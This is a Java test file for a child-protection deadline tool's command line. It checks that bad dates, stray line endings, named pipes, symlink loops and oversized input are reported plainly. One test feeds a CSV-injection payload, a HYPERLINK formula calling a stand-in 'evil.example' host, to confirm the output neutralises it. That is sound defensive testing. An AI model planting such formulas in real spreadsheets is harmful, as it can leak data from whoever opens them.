package org.duly.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.duly.cli.CommandLineRun.duly;
import static org.duly.cli.CommandLineRun.dulyWithBytes;
import static org.duly.cli.CommandLineRun.dulyWithInput;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.AccessDeniedException;
import java.nio.file.FileSystemException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The command line's half of issue 11, one test per defect of the reliability findings (D1 to D11)
 * and of the newcomer's trial (P1, P8, P15, P16) that the command line owns, each with the findings'
 * reproducer. The case-file reader's own defects (names in its messages, located messages, the
 * schema's contract) are the reader's tests'.
 */
class HostileCommandLineTest {

    static final String CP_CASE = "../examples/cases/child-protection.json";
    static final String RANGE = "is outside the range the England and Wales calendar supports (1978-01-01 to 2199-12-31)";

    /**
     * D1: an as-of date outside the calendar's range was accepted and gave statuses ("as of 9999-12-31 …
     * 3 overdue"), though "due soon" counts working days from it. Now it is an input error naming the
     * option and the range, for schedule and caseload alike, before any file is read.
     */
    @ParameterizedTest
    @ValueSource(strings = {"9999-12-31", "1900-01-01", "1977-12-31", "2200-01-01", "+999999999-12-31", "-0001-01-01",
        "0000-01-01"})
    void d1_an_as_of_date_outside_the_calendar_is_an_input_error(String asOf) {
        for (String command : new String[] {"schedule", "caseload"}) {
            CommandLineRun run = duly(command, CP_CASE, "--as-of", asOf);
            assertThat(run.exitCode()).as(command + " " + asOf).isEqualTo(ExitCode.INVALID_INPUT);
            assertThat(run.out()).isEmpty();
            assertThat(run.err()).isEqualTo("duly: --as-of: " + java.time.LocalDate.parse(asOf) + " " + RANGE + "\n");
        }
    }

    /** D1: the first and last days of the range are in it. */
    @Test
    void d1_the_ends_of_the_range_are_accepted() {
        assertThat(duly("schedule", CP_CASE, "--as-of", "1978-01-01").exitCode()).isEqualTo(ExitCode.OK);
        assertThat(duly("caseload", CP_CASE, "--as-of", "2199-12-31").exitCode()).isEqualTo(ExitCode.OK);
    }

    /** D1: every date argument of every command behaves alike: named, with the range, exit code 1. */
    @Test
    void d1_every_date_argument_is_checked_the_same_way() {
        assertThat(duly("workdays", "shift", "1900-01-01", "1").err()).isEqualTo("duly: DATE: 1900-01-01 " + RANGE + "\n");
        assertThat(duly("workdays", "explain", "2300-01-01", "1").err()).isEqualTo("duly: DATE: 2300-01-01 " + RANGE + "\n");
        assertThat(duly("workdays", "between", "1900-01-01", "2024-01-01").err())
                .isEqualTo("duly: FROM: 1900-01-01 " + RANGE + "\n");
        assertThat(duly("workdays", "between", "2024-01-01", "2300-01-01").err())
                .isEqualTo("duly: TO: 2300-01-01 " + RANGE + "\n");
        for (String[] args : new String[][] {{"workdays", "shift", "1900-01-01", "1"}, {"workdays", "between", "1900-01-01",
            "2024-01-01"}, {"workdays", "explain", "2300-01-01", "1"}, {"holidays", "2147483647"}, {"holidays", "-5"}}) {
            assertThat(duly(args).exitCode()).as(String.join(" ", args)).isEqualTo(ExitCode.INVALID_INPUT);
        }
        // LocalDate.of failed on this year before the range was checked: "Invalid value for Year".
        assertThat(duly("holidays", "2147483647").err()).isEqualTo(
                "duly: YEAR: 2147483647 is outside the years the England and Wales calendar supports (1978-01-01 to 2199-12-31)\n");
        // A result that falls outside the range is an input error too.
        assertThat(duly("workdays", "shift", "2024-01-01", "2147483647").exitCode()).isEqualTo(ExitCode.INVALID_INPUT);
    }

    /** D3: the findings' reproducer through the command line: a case id that is a formula. */
    @Test
    void d3_a_case_id_that_is_a_formula_is_neutralised_in_every_csv(@TempDir Path directory) throws IOException {
        Path file = Files.writeString(directory.resolve("f.json"), """
                {"child": {"id": "=HYPERLINK(\\"http://evil.example/?leak\\",\\"Open\\")", "dateOfBirth": "2015-01-01"},
                 "events": [{"type": "referral", "date": "2024-01-10"}]}
                """);
        CommandLineRun caseload = duly("caseload", file.toString(), "--as-of", "2025-01-15", "--format", "csv");
        assertThat(caseload.exitCode()).isEqualTo(ExitCode.OK);
        // The overdue table: the case id is its first column.
        assertThat(caseload.out()).contains("\n\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Open\"\")\",")
                .doesNotContain("\n=HYPERLINK").doesNotContain("\n\"=HYPERLINK");
        CsvInjectionTest.assertNoFormula(CsvInjectionTest.readBack(caseload.out()));
        CommandLineRun schedule = duly("schedule", file.toString(), "--as-of", "2025-01-15", "--format", "csv");
        CsvInjectionTest.assertNoFormula(CsvInjectionTest.readBack(schedule.out()));
    }

    /**
     * D4: a date java.time cannot count with made the whole run stop with an unlocated message, and the
     * files after it got no report. Now it is a problem of its file, and every other file is reported.
     */
    @Test
    void d4_one_file_with_an_extreme_date_never_stops_the_others(@TempDir Path directory) throws IOException {
        Files.copy(Path.of(CP_CASE), directory.resolve("a.json"));
        Path extreme = Files.writeString(directory.resolve("b.json"), """
                {"child": {"id": "C", "dateOfBirth": "+999999999-12-31"}, "events": [{"type": "becameLookedAfter",
                 "date": "2024-01-01", "legalStatus": "section20"}]}
                """);
        Files.copy(Path.of(CP_CASE), directory.resolve("c.json"));
        CommandLineRun validate = duly("validate", directory.toString());
        assertThat(validate.exitCode()).isEqualTo(ExitCode.INVALID_INPUT);
        assertThat(validate.out().lines()).containsExactly(directory.resolve("a.json") + ": OK (child case EX-CP-1, 26 events)",
                directory.resolve("c.json") + ": OK (child case EX-CP-1, 26 events)");
        assertThat(validate.err()).startsWith(extreme + ":").endsWith("duly: 1 problem in 1 of 3 case files\n")
                .doesNotContain("Invalid value for Year");
        CommandLineRun caseload = duly("caseload", directory.toString(), "--as-of", "2024-09-10");
        assertThat(caseload.exitCode()).isEqualTo(ExitCode.INVALID_INPUT);
        assertThat(caseload.out()).startsWith("Caseload of 2 cases as of 2024-09-10");
    }

    /**
     * D5: a lone carriage return ended a line, so three answers came back for two questions, and every
     * answer after it was paired with the wrong question. Only LF and CR LF end a line now.
     */
    @Test
    void d5_bulk_mode_ends_lines_only_at_a_line_feed() {
        CommandLineRun run = dulyWithInput("2024-03-27\r 5\n2024-01-02 1\n", "workdays", "shift", "--stdin");
        assertThat(run.out().lines()).hasSize(2).last().isEqualTo("2024-01-03");
        CommandLineRun windows = dulyWithInput("2024-03-27 5\r\n2024-01-02 1\r\nbad\r\n", "workdays", "shift", "--stdin");
        assertThat(windows.out()).isEqualTo("2024-04-05\n2024-01-03\nerror\n");
        assertThat(windows.err()).startsWith("line 3: expected 'DATE N', such as '2024-03-27 5', but found 'bad'\n");
        CommandLineRun oldMac = dulyWithInput("2024-03-27 5\r2024-01-02 1\r", "workdays", "shift", "--stdin");
        assertThat(oldMac.out()).isEqualTo("error\n");
        // A byte-order mark (Windows) before the first line is not part of it.
        assertThat(dulyWithInput("\uFEFF2024-03-27 5\n", "workdays", "shift", "--stdin").out()).isEqualTo("2024-04-05\n");
    }

    /** D5: random bytes, invalid UTF-8 among them, still give exactly one output line per input line. */
    @Test
    void d5_random_bytes_give_one_output_line_per_input_line() {
        Random random = new Random(811);
        for (int round = 0; round < 20; round++) {
            byte[] bytes = new byte[random.nextInt(20_000)];
            random.nextBytes(bytes);
            // Some good lines among the noise, to see that they keep their places.
            List<Integer> good = new ArrayList<>();
            ByteArrayOutputStream input = new ByteArrayOutputStream();
            int lines = 0;
            int start = 0;
            for (int i = 0; i <= bytes.length; i++) {
                if (i == bytes.length || bytes[i] == '\n') {
                    input.write(bytes, start, i - start);
                    if (i < bytes.length) {
                        input.write('\n');
                        lines++;
                        if (random.nextInt(4) == 0) {
                            input.writeBytes("2024-03-27 5\n".getBytes(StandardCharsets.US_ASCII));
                            good.add(lines++);
                        }
                    } else if (i > start) {
                        lines++;
                    }
                    start = i + 1;
                }
            }
            CommandLineRun run = dulyWithBytes(input.toByteArray(), "workdays", "shift", "--stdin");
            List<String> out = run.out().lines().toList();
            assertThat(out).as("round %d", round).hasSize(lines);
            good.forEach(index -> assertThat(out.get(index)).isEqualTo("2024-04-05"));
            assertThat(run.exitCode()).isIn(ExitCode.OK, ExitCode.INVALID_INPUT);
        }
    }

    /**
     * D6: a named pipe among the case files blocked for ever. Listing a directory now reports it and
     * never opens it. (A pipe named as a file is the reader's to refuse.)
     */
    @Test
    void d6_a_named_pipe_in_a_directory_is_reported_and_never_opened(@TempDir Path directory) throws Exception {
        Files.copy(Path.of(CP_CASE), directory.resolve("a.json"));
        Path pipe = directory.resolve("p.json");
        Assumptions.assumeTrue(new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor() == 0, "mkfifo is available");
        CommandLineRun run = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> duly("validate", directory.toString()));
        assertThat(run.exitCode()).isEqualTo(ExitCode.INVALID_INPUT);
        assertThat(run.out()).isEqualTo(directory.resolve("a.json") + ": OK (child case EX-CP-1, 26 events)\n");
        assertThat(run.err()).isEqualTo(pipe + ": not a regular file (a named pipe, a device or a socket); skipped, as reading"
                + " it could wait for ever\nduly: 1 problem in 1 of 2 case files\n");
        CommandLineRun caseload = assertTimeoutPreemptively(Duration.ofSeconds(30),
                () -> duly("caseload", directory.toString(), "--as-of", "2024-09-10"));
        assertThat(caseload.out()).startsWith("Caseload of 1 case as of 2024-09-10");
    }

    /** D8: an empty argument was the working directory, read recursively; it is a usage error now. */
    @Test
    void d8_an_empty_path_is_a_usage_error() {
        for (String[] args : new String[][] {{"validate", ""}, {"validate", CP_CASE, ""}, {"schedule", ""},
            {"caseload", ""}, {"schedule", CP_CASE, "--out", ""}, {"handbook", "--out", ""}, {"generate", "--out", ""}}) {
            CommandLineRun run = duly(args);
            assertThat(run.exitCode()).as(String.join(" ", args)).isEqualTo(ExitCode.USAGE);
            assertThat(run.out()).isEmpty();
            assertThat(run.err()).endsWith(": the name is empty\nSee 'duly " + args[0] + " --help'.\n");
        }
        assertThat(duly("validate", "").err()).isEqualTo("duly: FILE: the name is empty\nSee 'duly validate --help'.\n");
    }

    /** A name that begins with @ is a file's name: picocli would otherwise read the file as more arguments. */
    @Test
    void an_argument_beginning_with_at_is_a_file_name(@TempDir Path directory) throws IOException {
        Path arguments = Files.writeString(directory.resolve("cases.json"), "--frobnicate\n");
        Path at = Files.copy(Path.of(CP_CASE), directory.resolve("@cases.json"));
        CommandLineRun run = duly("validate", "@" + arguments);
        assertThat(run.exitCode()).isEqualTo(ExitCode.INVALID_INPUT);
        assertThat(run.err()).startsWith("@" + arguments + ": ").doesNotContain("frobnicate");
        assertThat(duly("validate", at.toString()).exitCode()).isEqualTo(ExitCode.OK);
    }

    /**
     * D9: a bad line of bulk input was repeated whole in its message (100 MB line, 100 MB message). A
     * message quotes at most a few dozen characters now, and a long line costs no memory.
     */
    @Test
    void d9_a_message_about_a_line_quotes_at_most_a_few_dozen_characters() {
        String tenMegabytes = "x".repeat(10_000_000);
        CommandLineRun run = dulyWithInput("2024-01-01 " + tenMegabytes + "\n" + tenMegabytes + "\n2024-01-01 1 "
                + "y".repeat(500) + "\n2024-03-27 5\n", "workdays", "shift", "--stdin");
        assertThat(run.out()).isEqualTo("error\nerror\nerror\n2024-04-05\n");
        assertThat(run.err().lines()).containsExactly(
                "line 1: too long (10000011 characters): expected 'DATE N', such as '2024-03-27 5'",
                "line 2: too long (10000000 characters): expected 'DATE N', such as '2024-03-27 5'",
                "line 3: expected 'DATE N', such as '2024-03-27 5', but found '2024-01-01 1 yyyyyyyyyyyyyyyyyyyyyyyyyyy…'"
                        + " (513 characters)",
                "3 lines of 4 could not be answered");
        assertThat(duly("workdays", "shift", "z".repeat(1_000_000), "1").err()).hasSizeLessThan(200);
        assertThat(duly("schedule", CP_CASE, "--format", "\u001b[31m" + "p".repeat(100_000)).err())
                .hasSizeLessThan(200).doesNotContain("\u001b");
    }

    /**
     * D11 (the command line's part): a folder that links back to itself, or a link to nothing, is
     * reported plainly, without Java's exception names, and the other files are read.
     */
    @Test
    void d11_links_that_loop_or_lead_nowhere_are_reported_plainly(@TempDir Path directory) throws IOException {
        Files.copy(Path.of(CP_CASE), directory.resolve("a.json"));
        Files.createDirectories(directory.resolve("sub"));
        Files.createSymbolicLink(directory.resolve("sub/up"), directory);
        Files.createSymbolicLink(directory.resolve("dangling.json"), directory.resolve("nowhere.json"));
        Files.createSymbolicLink(directory.resolve("self.json"), directory.resolve("self.json"));
        CommandLineRun run = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> duly("validate", directory.toString()));
        assertThat(run.exitCode()).isEqualTo(ExitCode.INVALID_INPUT);
        assertThat(run.out()).isEqualTo(directory.resolve("a.json") + ": OK (child case EX-CP-1, 26 events)\n");
        assertThat(run.err().lines()).containsExactly(
                directory.resolve("dangling.json") + ": a link to nothing (its target is missing, or it links to itself); skipped",
                directory.resolve("self.json") + ": a link to nothing (its target is missing, or it links to itself); skipped",
                directory.resolve("sub/up") + ": a link back to a folder above it (a loop); skipped",
                "duly: 3 problems in 3 of 4 case files");
    }

    /** P15: --out creates the folders it is in, and says in plain words why it cannot write. */
    @Test
    void p15_out_creates_its_folders_and_explains_a_failure_in_plain_words(@TempDir Path directory) throws IOException {
        Path deep = directory.resolve("reports/2024/september/case.html");
        CommandLineRun written = duly("schedule", CP_CASE, "--as-of", "2024-09-10", "--format", "html", "--out", deep.toString());
        assertThat(written.exitCode()).isEqualTo(ExitCode.OK);
        assertThat(deep).content().startsWith("<!DOCTYPE html>");
        CommandLineRun intoDirectory = duly("caseload", CP_CASE, "--as-of", "2024-09-10", "--out", directory.toString());
        assertThat(intoDirectory.exitCode()).isEqualTo(ExitCode.INVALID_INPUT);
        assertThat(intoDirectory.err()).isEqualTo("duly: " + directory + " is a directory; give a file name\n");
        Path file = Files.writeString(directory.resolve("a-file"), "x");
        CommandLineRun underAFile = duly("schedule", CP_CASE, "--as-of", "2024-09-10", "--out", file.resolve("x.csv").toString());
        assertThat(underAFile.err()).isEqualTo("duly: cannot create the folder " + file + ": " + file + " is a file, not a folder\n");
        assertThat(duly("generate", "--cases", "1", "--out", file.toString()).err())
                .isEqualTo("duly: cannot create the folder " + file + ": " + file + " is a file, not a folder\n");
        assertThat(OutputFiles.why(new AccessDeniedException("x"))).isEqualTo("permission denied");
        assertThat(OutputFiles.why(new FileSystemException("x", null, "No space left on device"))).isEqualTo("no space left on device");
        for (CommandLineRun run : List.of(intoDirectory, underAFile)) {
            assertThat(run.err()).doesNotContain("Exception");
        }
    }

    /**
     * P16: a usage error printed the whole help after the one line that mattered, with picocli's jargon
     * ("positional parameter at index 1", "Unmatched argument", "is not an int") and value lists in
     * upper case. Now it is that line in plain words, and where to read more.
     */
    @Test
    void p16_a_usage_error_is_one_plain_line_and_where_to_read_more() {
        assertThat(duly("schedule", CP_CASE, "--as-of", "01/03/2025").err()).isEqualTo(
                "duly: --as-of: '01/03/2025' is not a date: expected YYYY-MM-DD, such as 2024-03-27\nSee 'duly schedule --help'.\n");
        assertThat(duly("schedule", CP_CASE, "--format", "pdf").err()).isEqualTo(
                "duly: --format: 'pdf' is not one of table, csv, json, ics, html\nSee 'duly schedule --help'.\n");
        assertThat(duly("caseload", CP_CASE, "--format", "xml").err()).startsWith(
                "duly: --format: 'xml' is not one of table, csv, json, html\n");
        assertThat(duly("rules", "--format", "pdf").err()).startsWith("duly: --format: 'pdf' is not one of md, csv, json\n");
        assertThat(duly("rules", "cp.icpc").err()).isEqualTo("duly: unexpected argument 'cp.icpc'\nSee 'duly rules --help'.\n");
        assertThat(duly("workdays", "shift", "2024-03-27", "5x").err()).isEqualTo(
                "duly: N: '5x' is not a whole number, such as 5 or -2\nSee 'duly workdays shift --help'.\n");
        assertThat(duly("workdays", "shift", "2024-03-27", "\u0665").exitCode()).as("Arabic-Indic five").isEqualTo(ExitCode.USAGE);
        assertThat(duly("workdays", "shift", "2024-03-27", "99999999999").err()).startsWith(
                "duly: N: '99999999999' is too large: expected a whole number from -2147483648 to 2147483647\n");
        assertThat(duly("workdays", "shift", "2023-02-29", "1").err()).startsWith(
                "duly: DATE: '2023-02-29' is not a date: expected YYYY-MM-DD, such as 2024-03-27 (February 2023 has 28 days)\n");
        assertThat(duly("workdays", "shift", "2024-13-01", "1").err()).contains("(there is no month 13)");
        assertThat(duly("holidays", "twenty").err()).startsWith("duly: YEAR: 'twenty' is not a whole number");
        assertThat(duly("validate", "--frobnicate", CP_CASE).err()).startsWith("duly: unknown option '--frobnicate'\n");
        for (String[] args : new String[][] {{"schedule", CP_CASE, "--format", "pdf"}, {"rules", "cp.icpc"}, {"handbook"},
            {"workdays", "shift", "2024-03-27", "5x"}, {"generate", "--cases", "0", "--out", "x"}}) {
            CommandLineRun run = duly(args);
            assertThat(run.exitCode()).isEqualTo(ExitCode.USAGE);
            assertThat(run.err().lines()).as(String.join(" ", args)).hasSizeBetween(2, 3).last().asString()
                    .startsWith("See 'duly ");
            assertThat(run.err()).doesNotContain("Usage:", "positional parameter", "Unmatched argument", "not an int",
                    "case-insensitive", "TABLE");
        }
        // A command that needs a subcommand, given none, shows its help: it lists them.
        assertThat(duly("workdays").err()).contains("Missing a command: shift, between or explain", "Usage: duly workdays");
    }

    /**
     * The internal-error report never quotes an exception's message, which can quote the input: not
     * on its first line, and not in the --debug stack trace.
     */
    @Test
    void an_internal_error_never_prints_an_exceptions_message() {
        IllegalStateException failure = new IllegalStateException("for input string: \"Zebedee Quux-Marchbanks\"",
                new NumberFormatException("Zebedee Quux-Marchbanks"));
        failure.addSuppressed(new IllegalArgumentException("Zebedee"));
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (PrintWriter err = new PrintWriter(bytes, true, StandardCharsets.UTF_8)) {
            assertThat(Duly.internalError(failure, err, false)).isEqualTo(ExitCode.INTERNAL_ERROR);
            assertThat(Duly.internalError(failure, err, true)).isEqualTo(ExitCode.INTERNAL_ERROR);
        }
        String printed = bytes.toString(StandardCharsets.UTF_8);
        assertThat(printed).doesNotContain("Zebedee")
                .startsWith("duly: internal error (IllegalStateException); run again with --debug for the details, and"
                        + " please report it\nduly: internal error (IllegalStateException):\n"
                        + "java.lang.IllegalStateException (its message, 43 characters, is withheld: it may quote the input)\n")
                .contains("\tat org.duly.cli.HostileCommandLineTest.")
                .contains("\tSuppressed: java.lang.IllegalArgumentException (its message, 7 characters, is withheld")
                .contains("Caused by: java.lang.NumberFormatException (its message, 23 characters, is withheld");
    }
}
